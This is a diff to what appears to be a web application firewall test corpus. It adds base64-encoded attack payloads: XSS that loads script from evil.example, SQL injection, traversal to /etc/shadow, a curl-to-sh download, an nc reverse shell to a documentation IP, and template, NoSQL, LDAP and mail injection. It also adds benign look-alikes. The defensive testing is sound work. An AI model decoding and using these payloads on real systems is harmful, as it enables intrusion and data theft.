@@ -500,6 +500,44 @@ const HOLDOUT_3_BENIGN: CorpusEntry[] = [
   { category: 'write', name: 'holdout-3: a multipart note with line breaks', why: 'Multi-line text in a form upload', method: 'POST', path: '/api/files', headers: bearer, form: { fields: { notes: 'Trip report\nLocation: Berlin\nTo: the team\nDATA attached below' }, files: [{ field: 'file', filename: 'trip.csv', contentType: 'text/csv', content: 'day,km\n1,12\n' }] } },
 ];
 
+/** A value as base64, as a client or an evasive scanner sends it (padded; `flat` drops the padding). */
+export const base64 = (s: string | Buffer, flat = false) => Buffer.from(s).toString('base64').replace(flat ? /=+$/ : /$^/, '');
+const pct = encodeURIComponent;
+
+/**
+ * Payloads of the other classes sent base64-encoded in every place an API reads a whole value (public WAF suites
+ * send a third of their cases so), and base64 that real clients send: opaque ids, cursors, signatures, files.
+ */
+export const ENCODED_ATTACKS: CorpusEntry[] = [
+  { category: 'xss', name: 'base64: svg onload in a query parameter', why: 'An encoded handler passes every plain pattern', path: `/api/search?q=${pct(base64('<svg onload=alert(document.domain)>'))}` },
+  { category: 'xss', name: 'base64: body onload with a raw + in the query', why: 'The alphabet\'s + sent unencoded reads as a space once parsed', path: `/api/search?q=${base64('<body onload=alert(origin)>')}` },
+  { category: 'xss', name: 'base64: attribute breakout in a form field, unpadded', why: 'Padding dropped, as GoTestWAF\'s Base64Flat sends it', method: 'POST', path: '/api/feedback', headers: form, body: `comment=${pct(base64('"><img src=x onerror=prompt(1)>', true))}` },
+  { category: 'xss', name: 'base64: script src in a multipart text field', why: 'A text part whose whole value is a token', method: 'POST', path: '/api/files', headers: bearer, form: { fields: { caption: base64('<script src=//evil.example/x.js></script>') }, files: [{ field: 'file', filename: 'a.csv', contentType: 'text/csv', content: 'a,b\n' }] } },
+  { category: 'sqli', name: 'base64: time-based blind in a custom header', why: 'Apps decode context headers and build queries from them', path: '/api/runs', headers: { ...bearer, 'X-Request-Context': base64("1' AND SLEEP(5)-- -") } },
+  { category: 'sqli', name: 'base64: tautology in a login form', why: 'A login that decodes its base64 username', method: 'POST', path: '/api/auth/login', headers: form, body: `username=${pct(base64("admin' OR '1'='1"))}&password=x` },
+  { category: 'sqli', name: 'base64: UNION in a query parameter', why: 'Exfiltration through an encoded filter', path: `/api/items?filter=${pct(base64('1 UNION SELECT username, password FROM users--'))}` },
+  { category: 'traversal', name: 'base64: traversal as the whole path', why: 'A path that is one token, decoded by a file handler', path: `/${base64('../../../../etc/shadow', true)}` },
+  { category: 'cmdi', name: 'base64: curl piped to sh in a query', why: 'Download-and-run, encoded', path: `/api/tools/ping?host=${pct(base64(';curl http://203.0.113.9/x|sh'))}` },
+  { category: 'cmdi', name: 'base64: reverse shell in a custom header', why: 'nc -e through an encoded header', path: '/api/health', headers: { 'X-Debug-Cmd': base64('| nc 198.51.100.7 4444 -e /bin/sh') } },
+  { category: 'cmdi', name: 'base64: Jinja globals walk in a multipart field', why: 'Template injection reaching os.popen, encoded', method: 'POST', path: '/api/templates/preview', headers: bearer, form: { fields: { template: base64("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}") } } },
+  { category: 'cmdi', name: 'base64: server-side include in a query', why: 'SSI exec, encoded', path: `/api/pages?body=${pct(base64('<!--#exec cmd="id" -->'))}` },
+  { category: 'nosql', name: 'base64: NoSQL $where in a query', why: 'An encoded filter object with server-side JavaScript', path: `/api/users?q=${pct(base64('{"$where": "sleep(5000)"}'))}` },
+  { category: 'ldap', name: 'base64: LDAP filter breakout, unpadded', why: 'An encoded (uid=*) injection', path: `/api/directory?user=${base64('*)(uid=*))(|(uid=*', true)}` },
+  { category: 'mail', name: 'base64: SMTP command after a line break, short token', why: 'A mail-injection payload of 8 bytes decoded', path: `/api/contact?subject=${pct(base64('\r\nQUIT\r\n', true))}` },
+];
+
+export const ENCODED_BENIGN: CorpusEntry[] = [
+  { category: 'read', name: 'base64: a pagination cursor (base64 JSON)', why: 'APIs hand out base64 JSON cursors', path: `/api/runs?cursor=${pct(base64(JSON.stringify({ id: 98231, created_at: '2026-11-30T08:15:00Z', order: 'desc' })))}`, headers: bearer },
+  { category: 'read', name: 'base64: an opaque id in the path and the query', why: 'Ids of random bytes', path: `/api/files/${base64(Buffer.from('9f3a61c07be24d18a5e0c2b7', 'hex'), true)}?version=${pct(base64(Buffer.from('c0ffee00deadbeef1234', 'hex')))}`, headers: bearer },
+  { category: 'read', name: 'base64: a request signature header', why: 'HMAC signatures travel base64-encoded', path: '/api/agents', headers: { ...bearer, 'X-Signature': base64(Buffer.from('5d41402abc4b2a76b9719d911017c592aa8f1b0e7e3c5a6d9f0b1c2d3e4f5a6b', 'hex')) } },
+  { category: 'read', name: 'base64: a shared view state of prose', why: 'A share link carries its title base64-encoded', path: `/dashboard/share?state=${pct(base64('Quarterly report for the sales team, draft 2 (select the best runs)'))}` },
+  { category: 'read', name: 'base64: client credentials in a custom header', why: 'id:secret pairs, as Basic auth encodes them', path: '/api/agents', headers: { 'X-Client-Credentials': base64('client_42:s3cr3t-p4ss!') } },
+  { category: 'read', name: 'base64: long words and base64url tokens', why: 'Single words and URL-safe tokens look like base64', path: '/api/search?q=authentication&state=dGhpcy1pcy1hLXN0YXRl_aGVsbG8-d29ybGQ&code=observability' },
+  { category: 'write', name: 'base64: a thumbnail in a form field', why: 'Small images posted as data in a form', method: 'POST', path: '/api/users/42/avatar', headers: { ...bearer, ...form }, body: `thumbnail=${pct(base64(Buffer.from('89504e470d0a1a0a0000000d49484452000000100000001008060000001ff3ff61', 'hex')))}` },
+  { category: 'write', name: 'base64: a shell script file in a JSON body', why: 'API bodies carry files base64-encoded; a deploy script is content', method: 'POST', path: '/api/knowledge/files', headers: bearer, json: { filename: 'deploy.sh', content_base64: base64('#!/bin/sh\nset -e\ncurl -fsSL https://get.example.com/install.sh | sh\nrm -rf /tmp/build; cat /etc/os-release\n') } },
+  { category: 'write', name: 'base64: an HTML email template in a JSON body', why: 'Templates with script tags travel encoded in API bodies', method: 'POST', path: '/api/templates', headers: bearer, json: { name: 'welcome', html_base64: base64('<html><body onload="track()"><script src="/t.js"></script>Welcome!</body></html>') } },
+];
+
 export const ATTACKS: CorpusEntry[] = [
   // SQL injection
   { category: 'sqli', name: 'guide verification: tautology in a query parameter', why: 'The guide\'s own check: curl "/api/?id=1\' OR \'1\'=\'1" must be 403', path: "/api/?id=1'%20OR%20'1'='1" },
@@ -568,6 +606,7 @@ export const ATTACKS: CorpusEntry[] = [
   ...XXE_ATTACKS,
   ...OTHER_ATTACKS,
   ...HOLDOUT_3_ATTACKS,
+  ...ENCODED_ATTACKS,
 ];
 
 export const BENIGN: CorpusEntry[] = [
@@ -619,4 +658,5 @@ export const BENIGN: CorpusEntry[] = [
   ...XXE_BENIGN,
   ...OTHER_BENIGN,
   ...HOLDOUT_3_BENIGN,
+  ...ENCODED_BENIGN,
 ];
